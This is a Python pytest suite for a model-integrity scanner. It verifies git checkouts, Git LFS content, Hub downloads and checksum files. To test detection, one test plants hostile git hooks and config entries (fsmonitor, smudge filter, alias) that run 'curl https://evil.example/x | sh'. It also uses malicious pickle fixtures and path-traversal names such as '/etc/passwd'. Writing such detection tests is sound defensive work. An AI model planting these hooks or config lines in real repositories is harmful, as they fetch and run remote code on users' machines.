"""Claims and bookkeeping of folders: real git checkouts with and without Git LFS, real downloads, files of checksums."""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import struct
import subprocess
import sys
import unicodedata
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest
from hub.olah import run_git
from hub.server import LoopbackHub
from hypothesis import given
from hypothesis import strategies as st
from support.command import run_command
from support.fixtures import FIXTURES
from support.reading import BytesWindow

import modelaudit
from modelaudit.integrity import digests
from modelaudit.model.artifact import Artifact, ModelRef, RefKind, Snapshot
from modelaudit.model.copies import replace
from modelaudit.model.digest import DigestAlgorithm
from modelaudit.model.limits import Limits
from modelaudit.model.report import AuditReport, DigestState
from modelaudit.reports.verification import render_text
from modelaudit.sources.git_index import UnreadableIndexError, parse_index
from modelaudit.sources.sidecars import apply_sidecars
from modelaudit.verifying import verify

WEIGHTS = next((FIXTURES / "safetensors/benign").glob("*.safetensors")).read_bytes()
FILES: dict[str, bytes] = {
    "README.md": b"---\nlicense: apache-2.0\n---\n# Tiny\n",
    "config.json": b'{"model_type": "tiny"}',
    "model.safetensors": WEIGHTS,
    "sub/weights.pkl": (FIXTURES / "pickle/benign/data-protocol4.pkl").read_bytes(),
}


def scan(folder: Path) -> AuditReport:
    """Scan a folder without a second opinion."""
    return modelaudit.scan(str(folder), second_opinion=False)


def list_rules(report: AuditReport, family: str = "integrity") -> set[tuple[str, str]]:
    """Return the rules of a family that fired, each with its file."""
    return {(each.rule.partition("/")[2], each.artifact) for each in report.findings if each.rule.startswith(family)}


def list_states(report: AuditReport) -> dict[str, DigestState]:
    """Return the state of each file of the model."""
    return {record.path: record.digest_state for record in report.coverage.artifacts if record.path in FILES}


def write_files(folder: Path, files: dict[str, bytes] = FILES) -> Path:
    """Write the files, and return the folder."""
    for name, content in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(content)
    return folder


def flip_last_byte(path: Path) -> None:
    """Change one bit of a file."""
    content = bytearray(path.read_bytes())
    content[-1] ^= 1
    path.chmod(0o644)
    path.write_bytes(content)


# Git checkouts.


def make_checkout(tmp_path: Path, has_lfs: bool, *options: str) -> Path:
    """Clone a repository with the files, and with the weights in Git LFS if ``has_lfs``."""
    origin = write_files(tmp_path / "origin")
    run_git(origin, "init", "--quiet", "--initial-branch=main")
    if has_lfs:
        run_git(origin, "lfs", "install", "--local")
        run_git(origin, "lfs", "track", "*.safetensors", "*.pkl")
    run_git(origin, "add", "--all")
    run_git(origin, "commit", "--quiet", "--message", "one")
    lfs = ("smudge -- %f", "clean -- %f", "filter-process")
    keys = ("smudge", "clean", "process")
    settings = [f"--config=filter.lfs.{key}=git-lfs {value}" for key, value in zip(keys, lfs, strict=True)]
    run_git(tmp_path, "clone", "--quiet", *(settings if has_lfs else ()), *options, f"file://{origin}", "clone")
    return tmp_path / "clone"


@pytest.mark.parametrize("has_lfs", [False, True])
@pytest.mark.parametrize("options", [(), ("--depth=1",)])
def test_clone_of_an_honest_model_passes_and_its_files_are_verified(
    tmp_path: Path, has_lfs: bool, options: tuple[str, ...]
) -> None:
    checkout = make_checkout(tmp_path, has_lfs, *options)
    report = scan(checkout)
    assert report.exit_code == 0, report.decision.reasons
    strong = DigestState.MATCH if has_lfs else DigestState.MATCH_SHA1
    assert list_states(report) == {
        name: strong if name.endswith((".safetensors", ".pkl")) else DigestState.MATCH_SHA1 for name in FILES
    }
    assert any("bookkeeping" in note and "'.git'" in note for note in report.target.notes)
    # Git runs what the configuration names, so it is a file of the model.
    assert ".git/config" in {record.path for record in report.coverage.artifacts}


def test_claim_of_an_algorithm_that_the_environment_lacks_is_named_as_not_compared(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    checkout = make_checkout(tmp_path, False)
    monkeypatch.setattr(digests, "can_compute", lambda algorithm: algorithm is DigestAlgorithm.SHA256)
    flip_last_byte(checkout / "model.safetensors")
    why = "git (.git/index) states a git blob digest, which was not compared"
    report = scan(checkout)
    assert (report.exit_code, set(list_states(report).values())) == (3, {DigestState.NOT_COMPARED})
    record = next(each for each in report.coverage.artifacts if each.path == "model.safetensors")
    assert [absence.unread.detail for _, absence in record.absences] == [why]
    (result,) = verify(str(checkout))
    assert (result.exit_code, dict(result.uncompared)["model.safetensors"]) == (3, why)
    text = render_text((result,)).decode()
    assert f"  not compared: model.safetensors: {why}\n" in text
    assert "stated by git" not in text
    assert f"{len(FILES)} not verified; no difference in the rest" in text


def test_clone_after_commits_branches_tags_and_packing_passes(tmp_path: Path) -> None:
    checkout = make_checkout(tmp_path, True)
    (checkout / "NOTES.txt").write_text("text\n")
    run_git(checkout, "add", "NOTES.txt")
    run_git(checkout, "commit", "--quiet", "--message", "two")
    run_git(checkout, "tag", "--annotate", "--message", "v1", "v1")
    run_git(checkout, "checkout", "--quiet", "-b", "side")
    run_git(checkout, "fetch", "--quiet")
    assert scan(checkout).exit_code == 0
    run_git(checkout, "gc", "--quiet")
    run_git(checkout, "update-index", "--index-version", "4")
    report = scan(checkout)
    assert report.exit_code == 0, report.decision.reasons
    assert list_states(report)["config.json"] is DigestState.MATCH_SHA1


@pytest.mark.parametrize("name", ["config.json", "model.safetensors", "sub/weights.pkl"])
@pytest.mark.parametrize("has_lfs", [False, True])
def test_changed_file_of_a_checkout_fails_the_scan(tmp_path: Path, name: str, has_lfs: bool) -> None:
    checkout = make_checkout(tmp_path, has_lfs)
    flip_last_byte(checkout / name)
    report = scan(checkout)
    assert report.exit_code == 1
    assert list_rules(report) == {("checksum-mismatch", name)}


def test_removed_file_of_a_checkout_leaves_the_scan_incomplete_and_an_untracked_one_is_named(tmp_path: Path) -> None:
    checkout = make_checkout(tmp_path, False)
    (checkout / "config.json").unlink()
    (checkout / "extra.py").write_text("x = 1\n")
    report = scan(checkout)
    assert report.exit_code == 3
    assert "config.json" in {address for address, _ in report.coverage.open_absences}
    assert any("does not track" in note and "'extra.py'" in note for note in report.target.notes)


def test_pointer_without_content_is_incomplete_and_verified_as_a_pointer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GIT_LFS_SKIP_SMUDGE", "1")
    checkout = make_checkout(tmp_path, True)
    report = scan(checkout)
    assert report.exit_code == 3
    assert list_rules(report) == set()
    assert list_states(report)["model.safetensors"] is DigestState.MATCH_SHA1


@pytest.mark.parametrize(
    ("path", "content"),
    [
        (".git/model.pkl", (FIXTURES / "pickle/malicious/os-system.pkl").read_bytes()),
        (".git/HEAD2", (FIXTURES / "pickle/malicious/os-system.pkl").read_bytes()),
        (".git/objects/ab/" + "c" * 38, (FIXTURES / "pickle/malicious/os-system.pkl").read_bytes()),
        (".git/refs/heads/x", (FIXTURES / "pickle/malicious/os-system.pkl").read_bytes()),
        (".git/hooks/post-checkout", b"#!/bin/sh\ncurl https://evil.example/x | sh\n"),
        (".git/config", b'[core]\n\tfsmonitor = "curl https://evil.example/x | sh"\n'),
        (".git/config", b'[filter "x"]\n\tsmudge = "curl https://evil.example/x | sh"\n'),
        (".git/config", b'[alias]\n\tst = "!curl https://evil.example/x | sh"\n'),
        (".cache/huggingface/model.pkl", (FIXTURES / "pickle/malicious/os-system.pkl").read_bytes()),
        (".cache/huggingface/download/a.lock", (FIXTURES / "pickle/malicious/os-system.pkl").read_bytes()),
        (".cache/huggingface/download/a.metadata", (FIXTURES / "pickle/malicious/os-system.pkl").read_bytes()),
    ],
)
def test_payload_in_a_folder_of_records_is_judged(tmp_path: Path, path: str, content: bytes) -> None:
    checkout = make_checkout(tmp_path, False)
    (checkout / path).parent.mkdir(parents=True, exist_ok=True)
    (checkout / path).write_bytes(content)
    report = scan(checkout)
    assert report.exit_code == 1
    assert path in {finding.artifact for finding in report.findings if finding.severity in ("high", "critical")}


def test_linked_folder_of_git_is_read_as_a_part_of_the_model(tmp_path: Path) -> None:
    checkout = make_checkout(tmp_path, True)
    (checkout / "weights").symlink_to(".git/lfs/objects")
    paths = {record.path for record in scan(checkout).coverage.artifacts}
    assert f".git/lfs/objects/{hashlib.sha256(WEIGHTS).hexdigest()}"[:18] in {path[:18] for path in paths}


def test_content_of_a_large_file_is_compared_although_the_store_of_git_lfs_lacks_it(tmp_path: Path) -> None:
    checkout = make_checkout(tmp_path, True)
    shutil.rmtree(checkout / ".git/lfs")
    report = scan(checkout)
    assert (report.exit_code, list_states(report)["model.safetensors"]) == (0, DigestState.MATCH)
    flip_last_byte(checkout / "model.safetensors")
    assert list_rules(scan(checkout)) == {("checksum-mismatch", "model.safetensors")}


@pytest.mark.parametrize("setting", ["*.json eol=crlf", "*.json ident", "autocrlf"])
def test_bytes_that_git_changes_at_checkout_are_compared_after_undoing_it(tmp_path: Path, setting: str) -> None:
    origin = write_files(tmp_path / "origin", {**FILES, "config.json": b'{"model_type":\n "tiny $Id$"}\n'})
    if setting != "autocrlf":
        (origin / ".gitattributes").write_text(f"{setting}\n")
    run_git(origin, "init", "--quiet", "--initial-branch=main")
    run_git(origin, "add", "--all")
    run_git(origin, "commit", "--quiet", "--message", "one")
    option = "--config=core.autocrlf=true" if setting == "autocrlf" else "--config=core.autocrlf=false"
    subprocess.run(["git", "clone", "--quiet", option, f"file://{origin}", tmp_path / "clone"], check=True)
    checkout = tmp_path / "clone"
    assert (checkout / "config.json").read_bytes() != (origin / "config.json").read_bytes()
    report = scan(checkout)
    assert report.exit_code == 0, report.decision.reasons
    assert list_states(report)["config.json"] is DigestState.MATCH
    (checkout / "config.json").write_bytes((checkout / "config.json").read_bytes().replace(b"tiny", b"evil"))
    assert list_rules(scan(checkout)) == {("checksum-mismatch", "config.json")}


@pytest.mark.parametrize("place", [".gitattributes", ".git/info/attributes"])
def test_filter_that_cannot_be_undone_leaves_changed_files_unverified(tmp_path: Path, place: str) -> None:
    checkout = make_checkout(tmp_path, False)
    (checkout / place).write_text("*.json filter=other\n")
    assert not {rule for rule, _ in list_rules(scan(checkout))} - {"checksum-mismatch"}
    flip_last_byte(checkout / "config.json")
    report = scan(checkout)
    assert report.exit_code == 3
    assert list_rules(report) == {("unsound-record", ".git/index")}


def encode_index(entries: list[tuple[str, int]], version: int = 2) -> bytes:
    """Return an index of git with entries of the given names and modes."""
    body = struct.pack(">4sII", b"DIRC", version, len(entries))
    for name, mode in entries:
        encoded = name.encode()
        fixed = struct.pack(">6IIIII20sH", 0, 0, 0, 0, 0, 0, mode, 0, 0, 0, bytes(20), min(len(encoded), 0xFFF))
        body += fixed + encoded + b"\0" * (8 - (62 + len(encoded)) % 8)
    return body + hashlib.sha1(body).digest()


@pytest.mark.parametrize("name", ["../x", "/etc/passwd", "a//b", "./a"])
def test_index_of_git_with_a_hostile_name_is_a_finding(tmp_path: Path, name: str) -> None:
    checkout = make_checkout(tmp_path, False)
    (checkout / ".git/index").write_bytes(encode_index([(name, 0o100644)]))
    report = scan(checkout)
    assert report.exit_code == 3
    assert list_rules(report) == {("unsound-record", ".git/index"), ("untracked-code", "sub/weights.pkl")}


@pytest.mark.parametrize(
    "damage",
    [
        lambda data: data[:-1] + bytes([data[-1] ^ 1]),
        lambda data: data[:40],
        lambda data: b"DIRC" + struct.pack(">II", 5, 0) + bytes(20),
        lambda data: b"DIRC" + struct.pack(">II", 2, 2**32 - 1) + bytes(20),
        lambda data: b"DIRC" + struct.pack(">II", 4, 9) + bytes(20),
        lambda data: b"DIRC" + struct.pack(">II", 2, 0) + b"link" + struct.pack(">I", 0) + bytes(20),
    ],
)
def test_unreadable_index_of_git_is_a_finding_and_an_absence(tmp_path: Path, damage: Callable[[bytes], bytes]) -> None:
    checkout = make_checkout(tmp_path, False)
    index = checkout / ".git/index"
    index.write_bytes(damage(index.read_bytes()))
    with pytest.raises(UnreadableIndexError):
        parse_index(index.read_bytes(), 1000)
    report = scan(checkout)
    assert report.exit_code == 3
    assert ("unsound-record", ".git/index") in list_rules(report)


@given(st.binary(max_size=200), st.integers(2, 4), st.integers(0, 3))
def test_any_bytes_are_an_index_or_an_unreadable_one(data: bytes, version: int, count: int) -> None:
    for body in (data, b"DIRC" + struct.pack(">II", version, count) + data):
        with suppress(UnreadableIndexError):
            for entry in parse_index(body + hashlib.sha1(body).digest(), 10):
                assert entry.path


# Downloads into a folder.


@pytest.fixture
def download(hub: LoopbackHub, hub_home: Path, tmp_path: Path) -> Path:
    """A folder that the command of the Hub's client downloaded a repository into."""
    hub.add_repository("acme/tiny", files=FILES)
    command = Path(sys.executable).parent / "hf"
    arguments = ["download", "acme/tiny", "--local-dir", str(tmp_path / "here")]
    environment = {**os.environ, "HF_HOME": str(hub_home), "HF_ENDPOINT": hub.endpoint}
    subprocess.run([command, *arguments], env=environment, check=True, capture_output=True)
    return tmp_path / "here"


def test_download_passes_and_its_files_are_verified(download: Path) -> None:
    report = scan(download)
    assert report.exit_code == 0, report.decision.reasons
    assert list_states(report) == {
        name: DigestState.MATCH if name.endswith((".safetensors", ".pkl")) else DigestState.MATCH_SHA1 for name in FILES
    }
    assert set(FILES) <= {record.path for record in report.coverage.artifacts} <= {*FILES, ".gitattributes"}


@pytest.mark.parametrize("name", ["config.json", "model.safetensors"])
@pytest.mark.parametrize("removed", ["", "trees", "download"])
def test_changed_file_of_a_download_fails_the_scan(download: Path, name: str, removed: str) -> None:
    if removed:
        shutil.rmtree(download / ".cache/huggingface" / removed)
    flip_last_byte(download / name)
    report = scan(download)
    assert report.exit_code == 1
    assert ("digest-mismatch", name) in list_rules(report)


@pytest.mark.parametrize(("name", "rule"), [("modeling_x.py", "unlisted-code"), ("notes.json", "unlisted-file")])
def test_added_file_of_a_download_is_a_finding_and_unverified(download: Path, name: str, rule: str) -> None:
    (download / name).write_text("{}\n")
    report = scan(download)
    assert report.exit_code == (1 if rule == "unlisted-code" else 3)
    assert list_rules(report) == {(rule, name)}
    assert name in {address for address, _ in report.coverage.open_absences}


@pytest.mark.parametrize("below", ["model.safetensors", "sub"])
def test_note_names_the_download_above_the_target_whose_records_are_not_read(download: Path, below: str) -> None:
    notes = [note for note in scan(download / below).target.notes if "its records state digests" in note]
    assert notes == [
        "the target lies in a download of the Hub's client (..): its records state digests, and are read by a scan of "
        "that folder alone"
    ]
    assert not [note for note in scan(download).target.notes if "its records state digests" in note]


def test_file_that_an_earlier_commit_left_in_a_download_is_named(
    hub: LoopbackHub, hub_home: Path, tmp_path: Path
) -> None:
    from huggingface_hub import snapshot_download

    repository = hub.add_repository("acme/tiny", {"config.json": b"{}", "modeling.py": b"x = 1\n", "notes.json": b"[]"})
    old = repository.sha
    repository.commit({}, delete=("modeling.py", "notes.json"))
    for commit in (old, repository.sha):
        snapshot_download("acme/tiny", revision=commit, local_dir=tmp_path / "here")
    report = scan(tmp_path / "here")
    assert list_rules(report) == {("unlisted-code", "modeling.py"), ("unlisted-file", "notes.json")}
    [finding] = [each for each in report.findings if each.rule == "integrity/unlisted-code"]
    assert f"it is left of commit {old}, and the download of commit {repository.sha} lacks it" in finding.message


def test_removed_file_and_removed_listing_of_a_download_are_absences(download: Path) -> None:
    (download / "config.json").unlink()
    assert "config.json" in {address for address, _ in scan(download).coverage.open_absences}
    (tree,) = (download / ".cache/huggingface/trees").iterdir()
    tree.unlink()
    report = scan(download)
    assert report.exit_code == 3
    assert tree.name in {Path(address).name for address, _ in report.coverage.open_absences}


# Files of checksums.


@pytest.mark.parametrize(
    ("name", "template"),
    [
        ("SHA256SUMS", "{digest}  {file}\n"),
        ("SHA256SUMS", "{digest} *{file}\r\n"),
        ("sha256sums.txt", "# comment\n\n{digest}  ./{file}\n"),
        ("SHA256SUMS", "SHA256 ({file}) = {digest}\n"),
        ("checksums.txt", "SHA2-256({file})= {DIGEST}\n"),
        ("model.safetensors.sha256", "{digest}\n"),
        ("model.safetensors.sha256", "sha256:{digest}"),
        ("model.safetensors.sha256", "{digest}  /home/someone/{file}\n"),
        ("SHA256SUMS", "\ufeff{digest}  {file}\n"),
        ("SHA256SUMS", "{digest}  .//{file}\n{empty}  SHA256SUMS\n"),
    ],
)
def test_forms_of_checksums_are_compared(tmp_path: Path, name: str, template: str) -> None:
    folder = write_files(tmp_path / "model")
    digest = hashlib.sha256(WEIGHTS).hexdigest()
    values = {"digest": digest, "DIGEST": digest.upper(), "file": "model.safetensors", "empty": "0" * 64}
    (folder / name).write_bytes(template.format(**values).encode())
    report = scan(folder)
    assert report.exit_code == 0, report.decision.reasons
    assert list_states(report)["model.safetensors"] is DigestState.MATCH
    assert list_states(report)["config.json"] is DigestState.UNCLAIMED
    flip_last_byte(folder / "model.safetensors")
    report = scan(folder)
    assert report.exit_code == 1
    assert list_rules(report) == {("checksum-mismatch", "model.safetensors")}


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("{digest}  ../x\n", "unsound-record"),
        ("{digest}  sub/../../x\n", "unsound-record"),
        ("{digest}  /etc/passwd\n", "unsound-record"),
        ("{digest}  C:\\x\n", "unsound-record"),
        ("nothing\n", "unsound-record"),
        (f"{hashlib.sha256(WEIGHTS).hexdigest()}  model.safetensors\nzzzz  config.json\n", "unsound-record"),
        ("{digest}  gone.bin\n", "named-file-absent"),
        ("{digest}  " + unicodedata.normalize("NFD", "é.txt") + "\n", "named-file-absent"),
        ("\\{digest}  a\\nb\n", "named-file-absent"),
    ],
)
def test_hostile_or_absent_name_in_a_file_of_checksums_is_a_finding_and_an_absence(
    tmp_path: Path, line: str, rule: str
) -> None:
    folder = write_files(tmp_path / "model", {**FILES, unicodedata.normalize("NFC", "é.txt"): b"text\n"})
    (folder / "SHA256SUMS").write_text(line.format(digest="0" * 64))
    report = scan(folder)
    assert report.exit_code == 3
    assert list_rules(report) == {(rule, "SHA256SUMS")}


def test_contradicting_lines_are_a_finding_although_one_fits(tmp_path: Path) -> None:
    folder = write_files(tmp_path / "model")
    digest = hashlib.sha256(WEIGHTS).hexdigest()
    (folder / "SHA256SUMS").write_text(f"{digest}  model.safetensors\n{'0' * 64}  model.safetensors\n")
    report = scan(folder)
    assert report.exit_code == 1
    (finding,) = [each for each in report.findings if each.rule == "integrity/checksum-mismatch"]
    assert {line.partition(":")[0] for line in finding.evidence} == {"contradicted", "confirmed", "computed"}


def apply_to_memory(text: str, name: str = "SHA256SUMS", limits: Limits = Limits()) -> Snapshot:  # noqa: B008 - frozen
    """Return a snapshot of a file ``w`` with the claims of a file of checksums beside it."""
    content = text.encode("utf-8", "surrogatepass")

    @contextmanager
    def open_window() -> Iterator[BytesWindow]:
        yield BytesWindow(content)

    artifacts = tuple(Artifact(f"a/{each}", len(content), open_window) for each in (name, "w"))
    return apply_sidecars(Snapshot(ModelRef(RefKind.FOLDER, "a"), None, artifacts, "a"), limits)


@given(
    st.lists(
        st.one_of(
            st.text(alphabet="0123456789abcdefSHA256 ()=*\\r/.:\x00é", max_size=80),
            st.sampled_from(["w", "./w", "gone", "../w", "/w", "w\\r"]).map(f"{'0' * 64}  {{}}".format),
        ),
        max_size=4,
    )
)
def test_each_digest_in_a_file_of_checksums_is_a_claim_or_a_fact_about_it(lines: list[str]) -> None:
    snapshot = apply_to_memory("\n".join(lines))
    _, file = snapshot.artifacts
    assert {fact.path for fact in snapshot.facts} <= {"a/SHA256SUMS"}
    stated = [line for line in lines if re.match(r"0{64}  [./gw]", line)]
    used = [line for line in stated if line.partition("  ")[2] in ("w", "./w")]
    assert bool(file.claims) is bool(used)
    assert len(used) == len(stated) or snapshot.facts


def test_bounds_of_a_file_of_checksums_are_facts_about_it() -> None:
    line = f"{'0' * 64}  w\n"
    assert [claim.record for claim in apply_to_memory(line).artifacts[1].claims] == ["a/SHA256SUMS"]
    (fact,) = apply_to_memory(line * 3, limits=replace(Limits(), folder_entries=2)).facts
    assert "it has more lines than the bound" in fact.detail
    assert apply_to_memory(line * 2, limits=replace(Limits(), folder_entries=2)).facts == ()
    fact, _ = apply_to_memory(f"{'0' * 64}  {'x' * 8192}\n").facts
    assert fact.detail == "line 1: it has more than 8192 characters"
    (fact,) = apply_to_memory(f"\\{'0' * 64}  a\\r\\\\b\n").facts
    assert fact.detail == "'a\\r\\\\b' is not in its folder"


def test_large_file_of_checksums_is_a_finding(tmp_path: Path) -> None:
    folder = write_files(tmp_path / "model")
    with (folder / "SHA256SUMS").open("wb") as file:
        file.truncate(100 << 20)
    assert ("unsound-record", "SHA256SUMS") in list_rules(scan(folder))


def test_checksums_of_other_algorithms_are_named_as_not_compared(tmp_path: Path) -> None:
    folder = write_files(tmp_path / "model")
    (folder / "MD5SUMS").write_text(f"{'0' * 32}  model.safetensors\n")
    (folder / "SHA512SUMS").write_text(f"{'0' * 128}  model.safetensors\n")
    (folder / "model.safetensors.sha1").write_text(f"{'0' * 40}\n")
    report = scan(folder)
    assert report.exit_code == 0
    assert any("not compared" in note and "'MD5SUMS'" in note for note in report.target.notes)
    done = run_command("verify", folder)
    assert (done.returncode, done.stdout, done.stderr.count("\n")) == (2, "", 1)
    assert "the digests in 'MD5SUMS', 'SHA512SUMS', 'model.safetensors.sha1' are not compared" in done.stderr
    sums = "".join(f"{hashlib.sha256(content).hexdigest()}  {name}\n" for name, content in FILES.items())
    (folder / "SHA256SUMS").write_text(sums)
    done = run_command("verify", folder)
    assert (done.returncode, "not compared, because only SHA-256 is: 3: 'MD5SUMS'" in done.stdout) == (0, True)
    # A file is one of checksums by its lines, and not by its name.
    (folder / "added.sha1").write_bytes(FILES["sub/weights.pkl"])
    done = run_command("verify", folder)
    assert (done.returncode, "  not verified: added.sha1: " in done.stdout) == (3, True)
